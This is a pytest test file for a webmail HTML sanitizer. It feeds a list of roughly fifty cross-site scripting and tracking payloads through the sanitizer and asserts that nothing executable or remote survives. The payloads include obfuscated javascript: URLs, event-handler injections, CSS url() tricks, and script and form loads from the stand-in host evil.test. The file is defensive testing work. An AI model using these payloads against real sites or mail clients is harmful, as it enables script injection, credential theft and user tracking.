"""The HTML sanitizer against hostile mail: the output is parsed again and every tag,
attribute and URL in it is checked, so a test fails on whatever slips through, not only
on the one string it expected."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from mailplane.webmail.sanitize import sanitize_html

PART_URL = "https://mail.example/api/v1/mail/webmail/messages/INBOX/7/parts/2?sig=x"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="javascript&#58;alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="  javascript:alert(1)">a</a>',
    '<a href="jAvAsCrIpT:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="http://evil.test/a.png 1x, http://evil.test/b.png 2x">',
    '<img src="http://evil.test/track.gif">',
    '<img src="HTTPS://evil.test/track.gif">',
    '<img src="//evil.test/track.gif">',
    '<math><mtext><a href="javascript:alert(1)">m</a></mtext></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="http://evil.test/"></iframe>',
    '<object data="http://evil.test/x.swf"></object>',
    '<embed src="http://evil.test/x.swf">',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    '<base href="http://evil.test/">',
    '<link rel="stylesheet" href="http://evil.test/x.css">',
    '<form action="http://evil.test/"><input name="p" type="password"><button>go</button></form>',
    '<p style="background:url(http://evil.test/x.png)">x</p>',
    "<p style=\"background-image: url('http://evil.test/x.png')\">x</p>",
    '<p style="background-image:\\75rl(http://evil.test/x.png)">x</p>',
    '<p style="background-image:u/**/rl(http://evil.test/x.png)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="position:fixed;top:0;left:0">spoofed dialog</p>',
    "<style>@import url(http://evil.test/x.css); body{background:url(http://e.test/)}</style>",
    "<div style=\"@import 'http://evil.test/x.css'\">x</div>",
    '<table background="http://evil.test/t.png"><tr><td background="http://e.test/">t</td></tr></table>',
    '<body background="http://evil.test/b.png" onload="alert(1)">b</body>',
    '<video poster="http://evil.test/p.png" src="http://evil.test/v.mp4"></video>',
    '<audio src="http://evil.test/a.mp3" autoplay></audio>',
    '<input type="image" src="http://evil.test/i.png">',
    "<details open ontoggle=alert(1)>d</details>",
    '<a href="#" onclick="alert(1)" onmouseover="alert(2)">a</a>',
    '<div id="app" class="webmail-toolbar">clobber</div>',
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<template><script>alert(1)</script></template>",
    '<a href="/api/v1/mail/webmail/messages/INBOX/1/raw">relative</a>',
    "<xmp><script>alert(1)</script></xmp>",
]

_URL_ATTRIBUTES = {
    "href", "src", "srcset", "background", "poster", "action", "formaction", "data",
    "xlink:href", "cite", "longdesc", "dynsrc", "lowsrc", "codebase", "ping",
}  # fmt: skip
_FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
    "math", "meta", "base", "link", "form", "input", "button", "textarea", "select",
    "video", "audio", "source", "track", "template", "noscript", "body", "html", "head",
}  # fmt: skip


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert(html: str, *, allowed_images: tuple[str, ...] = (PART_URL,)) -> None:
    """Nothing in ``html`` runs, and nothing loads except the given image URLs."""
    collected = _Collect()
    collected.feed(html)
    collected.close()
    for tag, attrs in collected.tags:
        assert tag not in _FORBIDDEN_TAGS, html
        for name, value in attrs:
            assert not name.startswith("on"), html
            assert name not in {"id", "class", "srcset", "background", "poster"}, html
            if name == "style":
                compact = "".join((value or "").split()).lower()
                for danger in ("url(", "expression", "@import", "\\", "/*", "position"):
                    assert danger not in compact, html
            if name in _URL_ATTRIBUTES:
                url = (value or "").strip()
                if tag == "img" and name == "src":
                    assert url in allowed_images, html
                else:
                    assert (tag, name) == ("a", "href"), html
                    scheme = url.split(":", 1)[0].lower()
                    assert scheme in {"http", "https", "mailto"}, html
    # Whatever script survived as text is harmless text, but scripts must not be there.
    assert "alert(1)" not in "".join(
        value or "" for _, attrs in collected.tags for _, value in attrs
    )


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_executable_or_remote_survives(hostile: str) -> None:
    out = sanitize_html(hostile, remote_images=False, cid_url=lambda cid: PART_URL)
    assert_inert(out.html)


def test_all_of_it_at_once_in_a_whole_document() -> None:
    document = "<html><head><title>t</title>" + "".join(HOSTILE) + "</head><body>"
    document += "".join(HOSTILE) + "</body></html>"
    assert_inert(sanitize_html(document, remote_images=False, cid_url=lambda c: None).html)


def test_remote_images_are_counted_and_kept_only_on_request() -> None:
    html = '<p>hi</p><img src="http://a.test/1.png"><img src="https://b.test/2.png">'
    blocked = sanitize_html(html, remote_images=False, cid_url=lambda c: None)
    assert blocked.remote_blocked == 2
    assert "a.test" not in blocked.html
    assert "b.test" not in blocked.html
    allowed = sanitize_html(html, remote_images=True, cid_url=lambda c: None)
    assert allowed.remote_blocked == 0
    assert_inert(allowed.html, allowed_images=("http://a.test/1.png", "https://b.test/2.png"))
    collected = _Collect()
    collected.feed(allowed.html)
    images = [dict(attrs) for tag, attrs in collected.tags if tag == "img"]
    assert [i["src"] for i in images] == ["http://a.test/1.png", "https://b.test/2.png"]
    assert all(i["referrerpolicy"] == "no-referrer" for i in images)


def test_remote_images_on_request_still_refuse_data_and_script_urls() -> None:
    html = '<img src="data:image/png;base64,AA"><img src="javascript:alert(1)">'
    out = sanitize_html(html, remote_images=True, cid_url=lambda c: None)
    assert_inert(out.html, allowed_images=())


def test_cid_images_point_at_the_part_url() -> None:
    seen: list[str] = []

    def cid_url(content_id: str) -> str | None:
        seen.append(content_id)
        return PART_URL if content_id == "logo@example.com" else None

    html = '<img src="cid:logo@example.com" alt="logo"><img src="CID:%3Cother@x%3E">'
    out = sanitize_html(html, remote_images=False, cid_url=cid_url)
    assert seen == ["logo@example.com", "other@x"]
    assert out.html.count("<img") == 2
    assert out.html.count(f'src="{PART_URL.replace("&", "&amp;")}"') == 1
    assert out.remote_blocked == 0
    assert_inert(out.html)


def test_links_open_apart_from_the_webmail() -> None:
    out = sanitize_html('<a href="https://ok.test/x?a=1&b=2">ok</a>', remote_images=False,
                        cid_url=lambda c: None)  # fmt: skip
    collected = _Collect()
    collected.feed(out.html)
    ((_tag, attrs),) = collected.tags
    link = dict(attrs)
    assert link["href"] == "https://ok.test/x?a=1&b=2"
    assert link["target"] == "_blank"
    assert set((link["rel"] or "").split()) == {"noopener", "noreferrer", "nofollow"}


def test_harmless_formatting_stays() -> None:
    html = (
        '<table width="100%"><tr><td style="color:#333;font-weight:bold;padding:4px">'
        "<b>Bold</b> <i>it</i></td></tr></table><ul><li>one</li></ul>"
    )
    out = sanitize_html(html, remote_images=False, cid_url=lambda c: None).html
    assert "color:#333" in out
    assert "font-weight:bold" in out
    assert "<b>Bold</b>" in out
    assert "<li>one</li>" in out
    assert 'width="100%"' in out
